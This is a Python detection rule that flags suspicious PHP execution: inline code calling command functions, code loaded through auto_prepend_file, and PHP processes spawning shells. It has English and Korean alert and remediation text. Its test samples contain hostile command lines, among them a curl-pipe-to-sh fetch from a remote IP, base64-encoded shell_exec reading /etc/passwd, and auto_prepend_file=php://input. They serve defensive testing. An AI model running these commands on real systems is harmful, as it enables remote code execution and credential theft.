"""AppServices_SuspectPhp: PHP running inline code that executes commands or unpacks hidden code, or a
PHP process starting a shell or interpreter (what a web shell does)."""

from __future__ import annotations

import fnmatch
import re
from typing import Any

from cloudward import saferegex
from cloudward.alerts import Finding
from cloudward.analytics.processes import NamePatterns, WebContext, basename, process_entities
from cloudward.detections.base import Card, Detection, Sample
from cloudward.detections.node._samples import audit_exec, sysmon_xml, tetragon_exec
from cloudward.events import ProcessExec

#: options after which PHP runs the next argument as code
_CODE_OPTIONS = frozenset({"-r", "--run", "-R", "--process-code", "-B", "--process-begin", "-E", "--process-end"})
#: ini settings that make PHP load code from somewhere else before or after every script
_PREPEND_SETTINGS = ("auto_prepend_file", "auto_append_file", "allow_url_include")
_RISKY_SOURCES = ("php://input", "php://filter", "data:", "http://", "https://", "ftp://", "/tmp/", "/dev/shm/",
                  "expect://", "phar://")

_WEBSHELL_SERVER = audit_exec(12761, 15965, 14935, ["php", "-S", "127.0.0.1:8089", "-t", "/srv/www"],
                              exe="/usr/bin/php8.2", uid=33, cwd="/srv/www")

CARD = Card(
    id="AppServices_SuspectPhp",
    title="Suspicious PHP execution detected",
    title_ko="의심스러운 PHP 실행 탐지",
    severity="medium",
    tactics=("Execution",),
    techniques=("T1059.004", "T1505.003", "T1027"),
    data_source="PROC",
    looks_at="process starts of PHP with inline code (-r/-R/-B/-E, -d auto_prepend_file) calling functions "
             "from php_suspicious_functions, and shells or interpreters (shells_and_interpreters) whose "
             "parent is a PHP process",
    description="[[On {host}, ]]{reason}: {command_line} (pid {pid}[[, user {user}]]). PHP running OS commands or "
                "decoding hidden code is how web shells and injected code behave.",
    description_ko="[[{host}에서 ]]{reason_ko}: {command_line} (pid {pid}[[, 사용자 {user}]]). PHP가 OS 명령을 실행하거나 "
                   "숨겨진 코드를 디코딩하는 것은 웹 셸이나 주입된 코드의 전형적인 동작입니다.",
    remediation=(
        "Find the PHP file behind it: match the time with the access log and look for recently changed or "
        "uploaded .php files (web shells often sit in upload or cache folders).",
        "Remove the web shell, patch the vulnerable page, plug-in or theme, and redeploy from a clean source.",
        "Disable dangerous functions for the web pool (disable_functions = exec,passthru,shell_exec,system,"
        "proc_open,popen) and keep upload folders from executing PHP.",
        "Rotate secrets the application can read (database passwords, API keys).",
    ),
    remediation_ko=(
        "시각을 접근 로그와 대조하고 최근 변경되었거나 업로드된 .php 파일(웹 셸은 업로드·캐시 폴더에 자주 숨습니다)을 찾아 원인 파일을 확인하십시오.",
        "웹 셸을 제거하고 취약한 페이지·플러그인·테마를 패치한 뒤 깨끗한 소스에서 다시 배포하십시오.",
        "웹 풀에서 위험한 함수를 비활성화하고(disable_functions = exec,passthru,shell_exec,system,proc_open,popen) "
        "업로드 폴더에서 PHP가 실행되지 않도록 하십시오.",
        "애플리케이션이 읽을 수 있는 비밀(데이터베이스 암호, API 키)을 교체하십시오.",
    ),
    false_positives=(
        "Composer, artisan scheduling, WP-CLI and test runners start shells; their parents are listed in the "
        "allowed_parents parameter (shell-style patterns on the PHP command line).",
    ),
    params={
        "php_programs": ["php", "php[0-9]*", "php-cgi*", "php-fpm*", "php.exe", "php-cgi.exe", "php-win.exe"],
        "allowed_parents": ["*composer*", "*artisan schedule:*", "*artisan queue:*", "*wp-cli*", "* wp *",
                            "*phpunit*", "*drush*"],
    },
    samples=(
        Sample("web shell on PHP's server runs sh -c 'id;uname -a' (auditd, as recorded)", "auditd",
               _WEBSHELL_SERVER
               + audit_exec(12770, 15978, 15965, ["sh", "-c", "id;uname -a"], exe="/usr/bin/dash", uid=33,
                            cwd="/srv/www/uploads")
               + audit_exec(12771, 15979, 15978, ["id"], exe="/usr/bin/id", uid=33, cwd="/srv/www/uploads"),
               expect=1, entities={"host": "unknown", "process": "dash", "user": "www-data", "pid": 15978,
                                   "parent": "/usr/bin/php8.2"}),
        Sample("php -r with shell_exec(base64_decode(...))", "auditd",
               audit_exec(12806, 15991, 14935, ["php", "-r", 'echo shell_exec(base64_decode("Y2F0IC9ldGMvcGFzc3dk"));'],
                          exe="/usr/bin/php8.2", uid=33), expect=1,
               entities={"reason_kind": "inline code"}),
        Sample("php -d auto_prepend_file=php://input", "auditd",
               audit_exec(12810, 15995, 14935, ["php-cgi", "-d", "allow_url_include=1", "-d",
                                                "auto_prepend_file=php://input"], exe="/usr/bin/php-cgi8.2", uid=33),
               expect=1),
        Sample("php-fpm worker in a container starts bash (Tetragon)", "tetragon",
               tetragon_exec("/bin/bash", "-c \"curl -s http://203.0.113.9/m | sh\"", parent="/usr/local/sbin/php-fpm",
                             parent_arguments="", image="docker.io/library/wordpress:6.5-fpm", uid=33),
               expect=1, entities={"container": "web"}),
        Sample("php-cgi.exe starts cmd.exe on Windows (Sysmon)", "sysmon-xml",
               sysmon_xml("C:\\Windows\\System32\\cmd.exe", 'cmd.exe /c "whoami /priv"',
                          parent_image="D:\\Program Files\\PHP\\v8.2\\php-cgi.exe",
                          parent_command_line='"D:\\Program Files\\PHP\\v8.2\\php-cgi.exe"',
                          user="IIS APPPOOL\\shop-prod"), expect=1),
        Sample("php -v", "auditd", audit_exec(12796, 15990, 14935, ["php", "-v"], exe="/usr/bin/php8.2", uid=33),
               expect=0),
        Sample("php -r printing a version string", "auditd",
               audit_exec(12797, 15992, 14935, ["php", "-r", "echo PHP_VERSION;"], exe="/usr/bin/php8.2", uid=1000),
               expect=0),
        Sample("composer running git through sh", "auditd",
               audit_exec(13001, 20001, 1900, ["php", "/usr/local/bin/composer", "install", "--no-dev"],
                          exe="/usr/bin/php8.2", uid=1000, cwd="/srv/app")
               + audit_exec(13002, 20002, 20001, ["sh", "-c", "git clone --no-checkout https://github.com/x/y"],
                            exe="/usr/bin/dash", uid=1000, cwd="/srv/app"),
               expect=0),
        Sample("a shell whose parent is not PHP", "auditd",
               audit_exec(13010, 20010, 1, ["bash", "-c", "id"], exe="/usr/bin/bash", uid=33), expect=0),
    ),
)


class SuspectPhp(Detection):
    card = CARD
    kinds = (ProcessExec,)

    def setup(self) -> None:
        self.php = NamePatterns(list(self.params["php_programs"]))
        self.shells = NamePatterns(self.data.strings("shells_and_interpreters"))
        self.allowed_parents = tuple(str(p).lower() for p in self.params["allowed_parents"])
        names = "|".join(re.escape(f) for f in self.data.strings("php_suspicious_functions"))
        self.functions = saferegex.compile(rf"(?:^|[^a-z0-9_$>])({names})\s*\(", ignore_case=True)
        self.web = WebContext(self.data)

    def process_names(self, exe: str, arg0: str | None, parent: str) -> bool:
        """Whether an execution with these file names involves PHP (itself, or as the parent), the only
        ones `evaluate` can find anything in (see cloudward.process_dispatch)."""
        return self.php(exe) or self.php(arg0 or "") or (bool(parent) and self.php(parent))

    def _inline(self, argv: list[str]) -> tuple[str, str]:
        """What makes this PHP command line suspicious, in English and Korean (('', '') if nothing)."""
        for i, arg in enumerate(argv[1:], 1):
            if arg in _CODE_OPTIONS and i + 1 < len(argv):
                code = argv[i + 1]  # RE2: linear in the whole value, never cut
                m = self.functions.search(code)
                if m:
                    fn = m.group(1).lower()
                    return f"PHP inline code calling {fn}()", f"{fn}()를 호출하는 PHP 인라인 코드"
                if "`" in code:
                    return "PHP inline code with a backtick shell command", "백틱 셸 명령이 든 PHP 인라인 코드"
            setting = arg[2:] if arg.startswith("-d") and len(arg) > 2 else (
                argv[i + 1] if arg == "-d" and i + 1 < len(argv) else "")
            if setting:
                name, _, value = setting.partition("=")
                if name.strip() in _PREPEND_SETTINGS:
                    low = value.strip().lower()
                    if name.strip() == "allow_url_include" and low in ("1", "on", "true"):
                        continue  # only together with a prepended source is it code loading
                    if low.startswith(_RISKY_SOURCES):
                        source, setting_name = value.strip()[:80], name.strip()
                        return (f"PHP told to load code from {source} ({setting_name})",
                                f"{source}에서 코드를 불러오도록 지정된 PHP({setting_name})")
        return "", ""

    def evaluate(self, event: ProcessExec) -> list[Finding] | None:
        name = basename(event.executable)
        arg0 = basename(event.argv[0]) if event.argv else ""
        if self.php(name) or self.php(arg0):
            reason, reason_ko = self._inline(event.argv) if len(event.argv) > 2 else ("", "")
            if not reason:
                return None
            return [self._finding(event, reason, reason_ko, "inline code", event.pid)]
        parent = basename(event.parent_executable)
        if not parent or not self.php(parent):
            return None
        if not (self.shells(name) or self.shells(arg0)):
            return None
        pcmd = event.parent_command_line.lower()
        if pcmd and any(fnmatch.fnmatchcase(pcmd, p) for p in self.allowed_parents):
            return None
        child = name or arg0
        return [self._finding(event, f"PHP process {parent} started {child}",
                              f"PHP 프로세스 {parent}이(가) {child}을(를) 시작함", "spawned shell", event.ppid)]

    def _finding(self, event: ProcessExec, reason: str, reason_ko: str, kind: str, php_pid: int) -> Finding:
        ent: dict[str, Any] = process_entities(event)
        ent["reason_kind"] = kind
        # lists, so an alert folding several events names every reason
        ent["reason"] = [reason]
        ent["reason_ko"] = [reason_ko]
        origin = self.web.origin(event)
        if origin:
            ent["web_context"] = origin
        return Finding(key=f"{event.host}|{event.container_id}|{php_pid}", entities=ent, event=event)
